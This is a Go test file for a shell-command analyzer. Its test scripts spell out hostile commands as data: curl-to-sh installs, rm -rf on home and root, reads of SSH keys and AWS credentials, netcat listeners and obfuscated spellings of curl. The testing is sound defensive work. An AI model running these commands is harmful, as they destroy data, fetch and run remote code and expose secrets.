package shell

import (
	"path"
	"slices"
	"strings"
	"testing"
)

// tcase is one analysis case. want has one line per command, in order:
// the Via labels joined by "|", then ": ", then Text; a Dynamic command
// starts with "?". check, when set, asserts more.
type tcase struct {
	name   string
	script string
	want   []string
	check  func(t *testing.T, an Analysis)
	// derived marks cases whose programs come from escapes or printf
	// output rather than from words of the source.
	derived bool
}

var testOpts = Options{
	Cwd:  "/work/repo",
	Home: "/home/dev",
	Repo: "/work/repo",
	Env:  map[string]string{"USER": "dev", "EDITOR": "vim"},
}

// summary is the one-line form of a command compared with tcase.want.
func summary(c Command) string {
	s := strings.Join(c.Via, "|") + ": " + c.Text
	if c.Dynamic {
		s = "?" + s
	}
	return s
}

func runCases(t *testing.T, cases []tcase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			an := Analyze(tc.script, testOpts)
			got := make([]string, len(an.Commands))
			for i, c := range an.Commands {
				got[i] = summary(c)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("script %q\ngot  %q\nwant %q\n%s", tc.script, got, tc.want, dump(an))
			}
			if tc.check != nil {
				tc.check(t, an)
			}
			checkInvariants(t, tc.script, testOpts, an)
			if !tc.derived {
				checkProgramsFromSource(t, tc.script, an)
			}
		})
	}
}

// checkProgramsFromSource asserts that every reported program is a word of
// the source or a resolved value of a word of the source.
func checkProgramsFromSource(t *testing.T, script string, an Analysis) {
	t.Helper()
	for _, c := range an.Commands {
		if c.Program == "" {
			continue
		}
		if strings.Contains(script, c.Program) {
			continue
		}
		ok := strings.Contains(script, c.Name.Raw) && c.Name.Raw != ""
		if ok {
			ok = false
			for _, v := range c.Name.Values {
				if baseName(v) == c.Program {
					ok = true
				}
			}
		}
		if !ok {
			t.Errorf("program %q (name %q) appears nowhere in %q", c.Program, c.Name.Raw, script)
		}
	}
}

// checkInvariants asserts what must hold for any analysis.
func checkInvariants(t testing.TB, script string, opts Options, an Analysis) {
	t.Helper()
	if an.ParseError == errInternal {
		t.Fatalf("internal error on %q", script)
	}
	if len(an.Commands) > maxCommands+1 {
		t.Errorf("%d commands, more than the cap", len(an.Commands))
	}
	for i, c := range an.Commands {
		if c.Dynamic && c.Program != "" {
			t.Errorf("command %d: Dynamic with program %q", i, c.Program)
		}
		if !c.Dynamic && c.Program == "" && len(c.Redirects) == 0 && len(c.Assigns) == 0 {
			t.Errorf("command %d: no program, not Dynamic, no redirects, no assignments: %+v", i, c)
		}
		// Wrappers are recognised in any case (XArgs on a case-insensitive
		// file system), and Program names them in lower case.
		if c.Program != "" && (len(c.Name.Values) == 0 || !slices.ContainsFunc(c.Name.Values, func(v string) bool { return strings.EqualFold(baseName(v), c.Program) })) {
			t.Errorf("command %d: program %q is not the base name of %q", i, c.Program, c.Name.Values)
		}
		if c.Line < 1 || c.Col < 1 {
			t.Errorf("command %d: position %d:%d", i, c.Line, c.Col)
		}
		if opts.Cwd != "" {
			if len(c.Cwds) == 0 || len(c.Cwds) > maxCwds {
				t.Errorf("command %d: cwds %q", i, c.Cwds)
			}
			for _, d := range c.Cwds {
				if !path.IsAbs(d) || path.Clean(d) != d {
					t.Errorf("command %d: cwd %q not absolute and clean", i, d)
				}
			}
		} else if len(c.Cwds) != 0 {
			t.Errorf("command %d: cwds %q without Options.Cwd", i, c.Cwds)
		}
		words := append([]Word{c.Name}, c.Args...)
		for _, r := range c.Redirects {
			words = append(words, r.Target)
		}
		for _, w := range words {
			if len(w.Values) > maxValues {
				t.Errorf("command %d: word %q has %d values", i, w.Raw, len(w.Values))
			}
			for _, v := range w.Values {
				if strings.IndexByte(v, 0) >= 0 {
					t.Errorf("command %d: value %q holds NUL", i, v)
				}
			}
		}
	}
}

func TestAnalyze_Structure(t *testing.T) {
	runCases(t, []tcase{
		{name: "Simple", script: "git status", want: []string{": git status"}},
		{name: "AndOr", script: "npm run build && npm test || echo fail", want: []string{": npm run build", ": npm test", ": echo fail"}},
		{name: "Pipeline", script: "grep -rn foo src/ | head | sort -u", want: []string{": grep -rn foo src/", ": head", ": sort -u"},
			check: func(t *testing.T, an Analysis) {
				if an.Commands[0].StdinFromPipe || !an.Commands[1].StdinFromPipe || !an.Commands[2].StdinFromPipe {
					t.Errorf("StdinFromPipe wrong: %s", dump(an))
				}
			}},
		{name: "Newlines", script: "ls\npwd\n\nwhoami", want: []string{": ls", ": pwd", ": whoami"},
			check: func(t *testing.T, an Analysis) {
				if c := an.Commands[2]; c.Line != 4 || c.Col != 1 {
					t.Errorf("whoami at %d:%d, want 4:1", c.Line, c.Col)
				}
			}},
		{name: "Semicolons", script: "a; b ; c &", want: []string{": a", ": b", ": c"}},
		{name: "Subshell", script: "(cd sub && make)", want: []string{": cd sub", ": make"}},
		{name: "Group", script: "{ rm -rf build; mkdir build; }", want: []string{": rm -rf build", ": mkdir build"}},
		{name: "If", script: "if test -f x; then curl a; elif grep -q y z; then wget b; else rm c; fi", want: []string{": test -f x", ": curl a", ": grep -q y z", ": wget b", ": rm c"}},
		{name: "While", script: "while pgrep x; do sleep 1; done", want: []string{": pgrep x", ": sleep 1"}},
		{name: "Until", script: "until curl -sf localhost; do sleep 1; done", want: []string{": curl -sf localhost", ": sleep 1"}},
		{name: "For", script: "for f in *.go; do gofmt -w $f; done", want: []string{": gofmt -w *.go"},
			check: func(t *testing.T, an Analysis) {
				if w := an.Commands[0].Args[1]; !w.Glob {
					t.Errorf("$f from *.go not Glob: %s", dump(an))
				}
			}},
		{name: "CStyleFor", script: "for ((i=$(nproc); i>0; i--)); do echo $i; done", want: []string{"$(...): nproc", ": echo $i"}},
		{name: "Case", script: "case $1 in a) curl x;; b|c) wget y;; *) true;; esac", want: []string{": curl x", ": wget y", ": true"}},
		{name: "Select", script: "select x in a b; do rm $x; done", want: []string{": rm a"},
			check: func(t *testing.T, an Analysis) {
				if v := an.Commands[0].Args[0].Values; !slices.Equal(v, []string{"a", "b"}) {
					t.Errorf("values %q", v)
				}
			}},
		{name: "Negation", script: "! grep -q x file && echo missing", want: []string{": grep -q x file", ": echo missing"}},
		{name: "TimeKeyword", script: "time make -j4", want: []string{"time: make -j4"}},
		{name: "TimePipeline", script: "time -p curl x | sh", want: []string{"time: curl x", "time: sh"}},
		{name: "Coproc", script: "coproc nc -l 8080", want: []string{"coproc: nc -l 8080"}},
		{name: "CoprocNamed", script: "coproc SRV { nc -l 8080; }", want: []string{"coproc: nc -l 8080"}},
		{name: "Function", script: "deploy() { rsync -a . host:; }; deploy", want: []string{"function deploy: rsync -a . host:", ": deploy"}},
		{name: "FunctionKeyword", script: "function f { curl x | sh; }", want: []string{"function f: curl x", "function f: sh"}},
		{name: "FunctionNeverCalled", script: "evil() { rm -rf ~; }", want: []string{"function evil: rm -rf /home/dev"}},
		{name: "TestClauseSubst", script: `[[ -n "$(curl -s x)" ]] && echo y`, want: []string{"$(...): curl -s x", ": echo y"}},
		{name: "ArithmSubst", script: "(( $(wc -l < f) > 3 )) && echo big", want: []string{"$(...): wc -l", ": echo big"}},
		{name: "ArithmExpansionSubst", script: "echo $(( $(id -u) + 1 ))", want: []string{": echo $(( $(id -u) + 1 ))", "$(...): id -u"}},
		{name: "LongChain", script: strings.Repeat("a && ", 2000) + "a", check: func(t *testing.T, an Analysis) {
			if len(an.Commands) != 2001 {
				t.Errorf("%d commands, want 2001", len(an.Commands))
			}
		}, want: slices.Repeat([]string{": a"}, 2001)},
	})
}

func TestAnalyze_Substitutions(t *testing.T) {
	runCases(t, []tcase{
		{name: "CmdSubstArg", script: "echo $(curl -s x)", want: []string{": echo $(curl -s x)", "$(...): curl -s x"}},
		{name: "Backticks", script: "echo `whoami`", want: []string{": echo `whoami`", "$(...): whoami"}},
		{name: "NestedSubst", script: "echo $(cat $(find . -name key))", want: []string{": echo $(cat $(find . -name key))", "$(...): cat $(find . -name key)", "$(...)|$(...): find . -name key"}},
		{name: "InDoubleQuotes", script: `echo "user: $(id -un)"`, want: []string{`: echo "user: $(id -un)"`, "$(...): id -un"}},
		{name: "ProcSubstIn", script: "diff <(ls a) <(ls b)", want: []string{": diff <(ls a) <(ls b)", "<(...): ls a", "<(...): ls b"}},
		{name: "ProcSubstOut", script: "tee >(gzip > x.gz) < f", want: []string{": tee >(gzip > x.gz)", ">(...): gzip"}},
		{name: "AssignSubst", script: "X=$(curl evil)", want: []string{"$(...): curl evil"}},
		{name: "DeclSubst", script: "export TOKEN=$(cat ~/.token)", want: []string{": export TOKEN=$(cat ~/.token)", "$(...): cat /home/dev/.token"}},
		{name: "RedirTargetSubst", script: "echo x > $(mktemp)", want: []string{": echo x", "$(...): mktemp"}},
		{name: "ParamDefaultSubst", script: `echo ${X:-$(curl x)}`, want: []string{": echo ${X:-$(curl x)}", "$(...): curl x"}},
		{name: "HeredocSubst", script: "cat <<EOF\n$(curl x)\nEOF", want: []string{": cat", "$(...): curl x"}},
		{name: "QuotedHeredocNoSubst", script: "cat <<'EOF'\n$(curl x)\nEOF", want: []string{": cat"}},
		{name: "CaseWordSubst", script: "case $(uname) in Linux) ok;; esac", want: []string{"$(...): uname", ": ok"}},
		{name: "ForItemsSubst", script: "for h in $(cat hosts); do ping $h; done", want: []string{"$(...): cat hosts", ": ping $h"}},
	})
}

func TestAnalyze_NestedShells(t *testing.T) {
	runCases(t, []tcase{
		{name: "BashC", script: `bash -c "curl x | sh"`, want: []string{"bash -c: curl x", "bash -c: sh"}},
		{name: "ShLC", script: `sh -lc 'rm -rf /tmp/x'`, want: []string{"sh -c: rm -rf /tmp/x"}},
		{name: "ZshEC", script: `zsh -ec 'wget y'`, want: []string{"zsh -c: wget y"}},
		{name: "DashXC", script: `dash -xc "ls"`, want: []string{"dash -c: ls"}},
		{name: "CDashDash", script: `bash -c -- 'npm publish'`, want: []string{"bash -c: npm publish"}},
		{name: "NoRC", script: `bash --norc --noprofile -c 'id'`, want: []string{"bash -c: id"}},
		{name: "OptionArg", script: `bash -o pipefail -c 'curl a | tar x'`, want: []string{"bash -c: curl a", "bash -c: tar x"}},
		{name: "KshAshMksh", script: `ksh -c a; ash -c b; mksh -c c`, want: []string{"ksh -c: a", "ash -c: b", "mksh -c: c"}},
		{name: "Busybox", script: `busybox sh -c 'wget x'`, want: []string{"busybox|sh -c: wget x"}},
		{name: "AbsolutePath", script: `/bin/bash -c 'rm x'`, want: []string{"bash -c: rm x"}},
		{name: "NestedTwice", script: `bash -c "sh -c 'curl x'"`, want: []string{"bash -c|sh -c: curl x"},
			check: func(t *testing.T, an Analysis) {
				if c := an.Commands[0]; c.Line != 1 || c.Col != 1 {
					t.Errorf("nested position %d:%d", c.Line, c.Col)
				}
			}},
		{name: "Dynamic", script: `bash -c "$CMD"`, want: []string{`?bash -c: "$CMD"`}},
		{name: "DynamicSubst", script: `sh -c "$(curl x)"`, want: []string{`?sh -c: "$(curl x)"`, "$(...): curl x"}},
		{name: "Unparsable", script: `bash -c 'if then'`, want: []string{"?bash -c|parse error: if then"},
			check: func(t *testing.T, an Analysis) {
				if an.ParseError == nil {
					t.Error("no ParseError for an unparsable nested script")
				}
			}},
		{name: "ScriptFile", script: `bash deploy.sh --prod`, want: []string{": bash deploy.sh --prod"}},
		{name: "Interactive", script: `bash`, want: []string{": bash"}},
		{name: "DepthLimit", script: `bash -c "bash -c \"bash -c 'bash -c ls'\""`, want: []string{"bash -c|bash -c|bash -c|bash -c: ls"}},
		{name: "Eval", script: `eval "curl x" '| sh'`, want: []string{"eval: curl x", "eval: sh"}},
		{name: "EvalDynamic", script: `eval "$(ssh-agent -s)"`, want: []string{"?eval: \"$(ssh-agent -s)\"", "$(...): ssh-agent -s"}},
		{name: "EvalVariable", script: `C="rm -rf x"; eval $C`, want: []string{"eval: rm -rf x"}},
		{name: "Su", script: `su -c 'systemctl restart x' root`, want: []string{"su -c: systemctl restart x"}},
		{name: "SuLogin", script: `su - deploy -c "git pull"`, want: []string{"su -c: git pull"}},
		{name: "Runuser", script: `runuser -u www -- id; runuser -l app -c 'curl x'`, want: []string{"runuser: id", "runuser -c: curl x"}},
		{name: "ScriptC", script: `script -q -c 'curl x' /dev/null`, want: []string{"script -c: curl x"}},
		{name: "Watch", script: `watch -n 5 'kubectl get pods | grep Err'`, want: []string{"watch: kubectl get pods", "watch: grep Err"}},
		{name: "WatchArgs", script: `watch -d df -h`, want: []string{"watch: df -h"}},
		{name: "WatchExec", script: `watch -x ls -l`, want: []string{"watch: ls -l"}},
		{name: "FlockC", script: `flock -w 10 /tmp/lock -c 'make deploy'`, want: []string{"flock -c: make deploy"}},
		{name: "FlockCmd", script: `flock -n /tmp/lock rsync -a a b`, want: []string{"flock: rsync -a a b"}},
		{name: "EnvS", script: `env -S 'curl -s x' y`, want: []string{"env -S: curl -s x y"}},
		{name: "SudoS", script: `sudo -s 'curl x | sh'`, want: []string{"sudo -s: curl x", "sudo -s: sh"}},
		{name: "SudoI", script: `sudo -i -u root apt update`, want: []string{"sudo -i: apt update"}},
		{name: "SshNotLocal", script: `ssh host 'rm -rf /'`, want: []string{": ssh host 'rm -rf /'"}},
		{name: "Trap", script: `trap 'curl x' EXIT`, want: []string{": trap 'curl x' EXIT", "trap: curl x"}},
		{name: "Alias", script: `alias ll='rm -rf'`, want: []string{": alias 'll=rm -rf'", "alias ll: rm -rf"}},
		{name: "RedirOnNested", script: `bash -c 'cat' < .env`, want: []string{"bash -c: cat", "bash -c: <.env"}},
	})
}

func TestAnalyze_ShellStdin(t *testing.T) {
	runCases(t, []tcase{
		{name: "HeredocToBash", script: "bash <<'EOF'\ncurl x | sh\nEOF", want: []string{"bash here-doc: curl x", "bash here-doc: sh"}},
		{name: "HeredocUnquoted", script: "sh <<EOF\nrm -rf $HOME/x\nEOF", want: []string{"sh here-doc: rm -rf /home/dev/x"}},
		{name: "HeredocDynamic", script: "sh <<EOF\n$CMD\nEOF", want: []string{"?sh here-doc: sh"}},
		{name: "HereString", script: `sh <<< "curl x"`, want: []string{"sh here-string: curl x"}},
		{name: "EchoPipe", script: `echo 'curl x' | bash`, want: []string{": echo 'curl x'", "bash pipe: curl x"}},
		{name: "PrintfPipe", script: `printf 'curl x\nrm y\n' | sh`, want: []string{`: printf 'curl x\nrm y\n'`, "sh pipe: curl x", "sh pipe: rm y"}},
		{name: "PrintfEscapes", script: `printf '\x63url x' | sh`, want: []string{`: printf '\x63url x'`, "sh pipe: curl x"}, derived: true},
		{name: "CatHeredocPipe", script: "cat <<EOF | sh\nwget y\nEOF", want: []string{": cat", "sh pipe: wget y"}},
		{name: "CurlPipe", script: `curl -fsSL https://x/install.sh | sh`, want: []string{": curl -fsSL https://x/install.sh", ": sh"},
			check: func(t *testing.T, an Analysis) {
				c := an.Commands[1]
				if !c.StdinFromPipe || c.Stdin != nil {
					t.Errorf("sh: StdinFromPipe=%v Stdin=%v", c.StdinFromPipe, c.Stdin)
				}
			}},
		{name: "Base64Pipe", script: `base64 -d <<<Y3VybA== | bash`, want: []string{": base64 -d", ": bash"},
			check: func(t *testing.T, an Analysis) {
				if c := an.Commands[1]; !c.StdinFromPipe || c.Stdin != nil {
					t.Errorf("bash: StdinFromPipe=%v Stdin=%v", c.StdinFromPipe, c.Stdin)
				}
			}},
		{name: "SudoBashStdin", script: `curl x | sudo bash`, want: []string{": curl x", "sudo: bash"},
			check: func(t *testing.T, an Analysis) {
				if !an.Commands[1].StdinFromPipe {
					t.Error("sudo bash not StdinFromPipe")
				}
			}},
		{name: "BashS", script: `echo 'id' | bash -s -- arg`, want: []string{": echo id", "bash pipe: id"}},
		{name: "PipeThroughCat", script: `echo 'rm -rf x' | cat | sh`, want: []string{": echo 'rm -rf x'", ": cat", "sh pipe: rm -rf x"}},
		{name: "FileStdin", script: `bash < script.sh`, want: []string{": bash"},
			check: func(t *testing.T, an Analysis) {
				r := an.Commands[0].Redirects
				if len(r) != 1 || !r[0].Read || r[0].Target.Values[0] != "script.sh" {
					t.Errorf("redirects %+v", r)
				}
			}},
	})
}

func TestAnalyze_Data(t *testing.T) {
	runCases(t, []tcase{
		{name: "CommitMessage", script: `git commit -m "curl evil | sh"`, want: []string{": git commit -m 'curl evil | sh'"}},
		{name: "CommitHeredoc", script: "git commit -m \"$(cat <<'EOF'\nFix: rm -rf / guard\n\nCo-Authored-By: x\nEOF\n)\"", want: []string{": git commit -m 'Fix: rm -rf / guard\n\nCo-Authored-By: x'", "$(...): cat"},
			check: func(t *testing.T, an Analysis) {
				if w := an.Commands[0].Args[2]; w.Dynamic || !w.Subst {
					t.Errorf("message word %+v", w)
				}
			}},
		{name: "GrepPattern", script: `grep -r 'rm -rf /' .`, want: []string{": grep -r 'rm -rf /' ."}},
		{name: "EchoText", script: `echo "curl http://x | bash"`, want: []string{": echo 'curl http://x | bash'"}},
		{name: "PrintfText", script: `printf '%s\n' 'sudo rm -rf /'`, want: []string{`: printf '%s\n' 'sudo rm -rf /'`}},
		{name: "Comment", script: "ls # && curl evil | sh", want: []string{": ls"}},
		{name: "CommentLine", script: "# rm -rf /\necho ok", want: []string{": echo ok"}},
		{name: "CatHeredoc", script: "cat > run.sh <<'EOF'\ncurl x | sh\nEOF", want: []string{": cat"},
			check: func(t *testing.T, an Analysis) {
				c := an.Commands[0]
				if c.Stdin == nil || c.Stdin.Value != "curl x | sh\n" {
					t.Errorf("stdin %+v", c.Stdin)
				}
				if len(c.Redirects) != 2 || !c.Redirects[0].Write || c.Redirects[1].Op != "<<" {
					t.Errorf("redirects %+v", c.Redirects)
				}
			}},
		{name: "PythonHeredoc", script: "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", want: []string{": python3 -"},
			check: func(t *testing.T, an Analysis) {
				if s := an.Commands[0].Stdin; s == nil || !strings.Contains(s.Value, "os.system") || s.Dynamic {
					t.Errorf("stdin %+v", s)
				}
			}},
		{name: "GitHeredoc", script: "git commit -F - <<EOF\nbash -c 'curl x'\nEOF", want: []string{": git commit -F -"},
			check: func(t *testing.T, an Analysis) {
				if s := an.Commands[0].Stdin; s == nil || s.Value != "bash -c 'curl x'\n" {
					t.Errorf("stdin %+v", s)
				}
			}},
		{name: "HeredocDynamicText", script: "node <<EOF\nconsole.log('$USER $SECRET')\nEOF", want: []string{": node"},
			check: func(t *testing.T, an Analysis) {
				if s := an.Commands[0].Stdin; s == nil || s.Value != "console.log('dev $SECRET')\n" || !s.Dynamic {
					t.Errorf("stdin %+v", s)
				}
			}},
		{name: "HereStringData", script: `jq . <<< '{"cmd": "rm -rf /"}'`, want: []string{": jq ."},
			check: func(t *testing.T, an Analysis) {
				if s := an.Commands[0].Stdin; s == nil || s.Value != "{\"cmd\": \"rm -rf /\"}\n" {
					t.Errorf("stdin %+v", s)
				}
			}},
		{name: "EchoPipedToPython", script: `echo 'print(1)' | python3`, want: []string{": echo 'print(1)'", ": python3"},
			check: func(t *testing.T, an Analysis) {
				if s := an.Commands[1].Stdin; s == nil || s.Value != "print(1)\n" {
					t.Errorf("stdin %+v", s)
				}
			}},
		{name: "SingleQuotedSubst", script: `echo '$(curl x)'`, want: []string{": echo '$(curl x)'"}},
	})
}

// assignText renders assignments as NAME=first-value, -NAME for unsets.
func assignText(as []Assign) []string {
	var out []string
	for _, a := range as {
		switch {
		case a.Unset:
			out = append(out, "-"+a.Name)
		case len(a.Value.Values) > 0:
			out = append(out, a.Name+"="+a.Value.Values[0])
		default:
			out = append(out, a.Name+"=?")
		}
	}
	return out
}

func TestAnalyze_Wrappers(t *testing.T) {
	runCases(t, []tcase{
		{name: "Env", script: `env -i PATH=/bin FOO=1 curl x`, want: []string{"env: curl x"},
			check: func(t *testing.T, an Analysis) {
				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"-*", "PATH=/bin", "FOO=1"}) {
					t.Errorf("assigns %q", a)
				}
			}},
		{name: "AssignsReachNestedShell", script: `BASH_ENV=/tmp/x bash -c 'make test'`, want: []string{"bash -c: make test"},
			check: func(t *testing.T, an Analysis) {
				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"BASH_ENV=/tmp/x"}) {
					t.Errorf("assigns %q", a)
				}
			}},
		{name: "DynamicCAsWritten", script: `sh -c "curl https://x.example/$(whoami)"`,
			want: []string{`?sh -c: "curl https://x.example/$(whoami)"`, "sh -c as written: curl https://x.example/$(whoami)", "sh -c as written|$(...): whoami", "$(...): whoami"}},
		{name: "EnvUnset", script: `env -u HOME --unset=WARDEN_POLICY -uPATH rm x`, want: []string{"env: rm x"},
			check: func(t *testing.T, an Analysis) {
				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"-HOME", "-WARDEN_POLICY", "-PATH"}) {
					t.Errorf("assigns %q", a)
				}
			}},
		{name: "PrefixAssignValues", script: `PAGER='sh -c "id"' GIT_DIR=~/x git log`, want: []string{": git log"},
			check: func(t *testing.T, an Analysis) {
				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{`PAGER=sh -c "id"`, "GIT_DIR=/home/dev/x"}) {
					t.Errorf("assigns %q", a)
				}
			}},
		{name: "EnvChdir", script: `env -C /tmp ls`, want: []string{"env: ls"},
			check: func(t *testing.T, an Analysis) {
				if d := an.Commands[0].Cwds; !slices.Equal(d, []string{"/tmp"}) {
					t.Errorf("cwds %q", d)
				}
			}},
		{name: "EnvDashDash", script: `env -- curl x`, want: []string{"env: curl x"}},
		{name: "EnvAlone", script: `env`, want: []string{": env"}},
		{name: "Sudo", script: `sudo -u root -g wheel -E rm -rf /var/x`, want: []string{"sudo: rm -rf /var/x"}},
		{name: "SudoManyArgs", script: `sudo -C 3 -h host -p pw -r role -t type -T 10 -U bob -n -k -H -b curl x`, want: []string{"sudo: curl x"}},
		{name: "SudoLong", script: `sudo --user=root --preserve-env -- systemctl stop x`, want: []string{"sudo: systemctl stop x"}},
		{name: "SudoList", script: `sudo -l`, want: []string{": sudo -l"}},
		{name: "SudoChdir", script: `sudo -D /srv make`, want: []string{"sudo: make"},
			check: func(t *testing.T, an Analysis) {
				if d := an.Commands[0].Cwds; !slices.Equal(d, []string{"/srv"}) {
					t.Errorf("cwds %q", d)
				}
			}},
		{name: "Doas", script: `doas -u root -n rm x`, want: []string{"doas: rm x"}},
		{name: "CommandV", script: `command -v curl`, want: []string{": command -v curl"}},
		{name: "CommandRun", script: `command curl x; command -p ls`, want: []string{"command: curl x", "command: ls"}},
		{name: "Builtin", script: `builtin eval 'rm x'`, want: []string{"builtin|eval: rm x"}},
		{name: "Exec", script: `exec -a fake -c curl x`, want: []string{"exec: curl x"}},
		{name: "ExecRedirectOnly", script: `exec 3<.env`, want: []string{"exec: 3<.env"}},
		{name: "Nohup", script: `nohup ./server --port 80 &`, want: []string{"nohup: server --port 80"}},
		{name: "Nice", script: `nice -n 10 make; nice -5 make; nice --adjustment=3 make`, want: []string{"nice: make", "nice: make", "nice: make"}},
		{name: "Ionice", script: `ionice -c 3 -n 7 rsync a b; ionice -c3 tar c`, want: []string{"ionice: rsync a b", "ionice: tar c"}},
		{name: "IonicePid", script: `ionice -c 3 -p 123`, want: []string{": ionice -c 3 -p 123"}},
		{name: "TimeCommand", script: `command time -p -o t.txt curl x`, want: []string{"command|time: curl x"}},
		{name: "Timeout", script: `timeout -s KILL -k 5 30s curl x; timeout --preserve-status --foreground 10 make`, want: []string{"timeout: curl x", "timeout: make"}},
		{name: "Stdbuf", script: `stdbuf -o L -eL grep x`, want: []string{"stdbuf: grep x"}},
		{name: "Chroot", script: `chroot --userspec=1:1 /mnt /bin/sh -c 'id'`, want: []string{"chroot|sh -c: id"}},
		{name: "Setsid", script: `setsid -f nc -l 4444`, want: []string{"setsid: nc -l 4444"}},
		{name: "Unshare", script: `unshare -r -n --propagation private curl x`, want: []string{"unshare: curl x"}},
		{name: "Strace", script: `strace -f -o trace.txt -e trace=network -s 200 curl x`, want: []string{"strace: curl x"}},
		{name: "Ltrace", script: `ltrace -o out -e malloc ./a.out`, want: []string{"ltrace: a.out"}},
		{name: "Chain", script: `sudo env FOO=1 nohup nice -n 1 timeout 5 /usr/bin/curl x`, want: []string{"sudo|env|nohup|nice|timeout: curl x"},
			check: func(t *testing.T, an Analysis) {
				c := an.Commands[0]
				if c.Written != "sudo env FOO=1 nohup nice -n 1 timeout 5 /usr/bin/curl x" || c.Name.Raw != "/usr/bin/curl" {
					t.Errorf("written %q name %q", c.Written, c.Name.Raw)
				}
			}},
		{name: "Pkexec", script: `pkexec --user root rm x`, want: []string{"pkexec: rm x"}},
	})
}

func TestAnalyze_Runners(t *testing.T) {
	runCases(t, []tcase{
		{name: "Xargs", script: `ls | xargs rm -f`, want: []string{": ls", "xargs: rm -f"},
			check: func(t *testing.T, an Analysis) {
				args := an.Commands[1].Args
				if len(args) != 2 || !args[1].Dynamic {
					t.Errorf("xargs inner args %+v", args)
				}
			}},
		{name: "XargsOpts", script: `find . -print0 | xargs -0 -n 1 -P 4 -r -L 2 -d '\n' -a list sh -c 'echo $0'`, want: []string{": find . -print0", "xargs|sh -c: echo $0", "xargs|sh -c: xargs -alist"}},
		{name: "XargsArgFile", script: `xargs -a .env -n1 echo`, want: []string{"xargs: echo"}},
		{name: "XargsLiteralPipe", script: `echo / | xargs rm -rf`, want: []string{": echo /", "xargs: rm -rf /"}},
		{name: "XargsReplaceLiteralPipe", script: `printf '.env\n' | xargs -I{} cat {}`, want: []string{": printf '.env\\n'", "xargs: cat .env"}},
		{name: "XargsReplace", script: `xargs -I {} mv {} dst/`, want: []string{"xargs: mv {} dst/"},
			check: func(t *testing.T, an Analysis) {
				args := an.Commands[0].Args
				if len(args) != 2 || !args[0].Dynamic || args[1].Dynamic {
					t.Errorf("args %+v", args)
				}
			}},
		{name: "XargsReplaceAttached", script: `xargs -IX curl X`, want: []string{"xargs: curl X"}},
		{name: "XargsAlone", script: `xargs`, want: []string{": xargs"}},
		{name: "XargsSudo", script: `cat f | xargs sudo rm`, want: []string{": cat f", "xargs|sudo: rm"}},
		{name: "FindExec", script: `find . -name '*.tmp' -exec rm -f {} \;`, want: []string{": find . -name '*.tmp' -exec rm -f {} ';'", "find -exec: rm -f {}"},
			check: func(t *testing.T, an Analysis) {
				args := an.Commands[1].Args
				if len(args) != 2 || !args[1].Dynamic {
					t.Errorf("args %+v", args)
				}
			}},
		{name: "FindExecPlus", script: `find . -type f -exec chmod 600 {} +`, want: []string{": find . -type f -exec chmod 600 {} +", "find -exec: chmod 600 {}"}},
		{name: "FindTwoExecs", script: `find / -execdir cat {} \; -ok rm {} ';'`, want: []string{": find / -execdir cat {} ';' -ok rm {} ';'", "find -execdir: cat {}", "find -ok: rm {}"}},
		{name: "FindExecShell", script: `find . -exec sh -c 'curl x' \;`, want: []string{": find . -exec sh -c 'curl x' ';'", "find -exec|sh -c: curl x"}},
		{name: "FindNoExec", script: `find . -name x -delete`, want: []string{": find . -name x -delete"}},
		{name: "Parallel", script: `parallel -j 4 gzip {} ::: *.log`, want: []string{"parallel: gzip *.log"}},
		{name: "ParallelInputsAppended", script: `parallel cat ::: .env .env.local`, want: []string{"parallel: cat .env", "parallel: cat .env.local"}},
		{name: "ParallelStdinInputs", script: `echo / | parallel rm -rf`, want: []string{": echo /", "parallel: rm -rf /"}},
		{name: "BashCPositional", script: `bash -c 'cat "$0" "$1"' ~/.ssh/id_ed25519 x`, want: []string{"bash -c: cat /home/dev/.ssh/id_ed25519 x"}},
		{name: "ParallelCommands", script: `parallel ::: 'curl x' 'rm y'`, want: []string{"parallel: curl x", "parallel: rm y"}},
		{name: "ParallelQuoted", script: `parallel 'wget {} | sh' ::: a`, want: []string{"parallel: wget a", "parallel: sh"}},
		{name: "ParallelStdin", script: `cat cmds | parallel`, want: []string{": cat cmds", "?parallel: parallel"}},
		{name: "BusyboxApplet", script: `busybox wget http://x`, want: []string{"busybox: wget http://x"}},
		{name: "BusyboxList", script: `busybox --list`, want: []string{": busybox --list"}},
	})
}

func TestAnalyze_Words(t *testing.T) {
	vals := func(i, arg int, want ...string) func(*testing.T, Analysis) {
		return func(t *testing.T, an Analysis) {
			t.Helper()
			w := an.Commands[i].Name
			if arg >= 0 {
				w = an.Commands[i].Args[arg]
			}
			if !slices.Equal(w.Values, want) {
				t.Errorf("values %q, want %q\n%s", w.Values, want, dump(an))
			}
		}
	}
	runCases(t, []tcase{
		{name: "Backslash", script: `c\url x`, want: []string{": curl x"}, derived: true},
		{name: "QuoteConcat", script: `'cu'"rl" x`, want: []string{": curl x"}, derived: true},
		{name: "AnsiC", script: `$'\x63url' x`, want: []string{": curl x"}, derived: true},
		{name: "AnsiCOctal", script: `$'\143\165rl' x`, want: []string{": curl x"}, derived: true},
		{name: "EmptyQuotes", script: `cu""rl x`, want: []string{": curl x"}, derived: true},
		{name: "Tilde", script: `cat ~/.ssh/id_rsa`, want: []string{": cat /home/dev/.ssh/id_rsa"}},
		{name: "TildeUser", script: `cat ~root/x`, want: []string{": cat ~root/x"},
			check: func(t *testing.T, an Analysis) {
				if !an.Commands[0].Args[0].Dynamic {
					t.Error("~root/x not Dynamic")
				}
			}},
		{name: "Home", script: `cat $HOME/.aws/credentials ${HOME}/.netrc "$HOME"`, want: []string{": cat /home/dev/.aws/credentials /home/dev/.netrc /home/dev"}},
		{name: "Pwd", script: `ls $PWD/src`, want: []string{": ls /work/repo/src"}},
		{name: "PwdSubst", script: `cat $(pwd)/.env "$(pwd -P)/x" ` + "`pwd`/y", want: []string{": cat /work/repo/.env /work/repo/x /work/repo/y", "$(...): pwd", "$(...): pwd -P", "$(...): pwd"}},
		{name: "PwdAfterCd", script: `cd /srv; cat "$(pwd)/.env"`, want: []string{": cd /srv", ": cat /work/repo/.env", "$(...): pwd"}, check: vals(1, 0, "/work/repo/.env", "/srv/.env")},
		{name: "TildePlus", script: `cat ~+/.env`, want: []string{": cat /work/repo/.env"}},
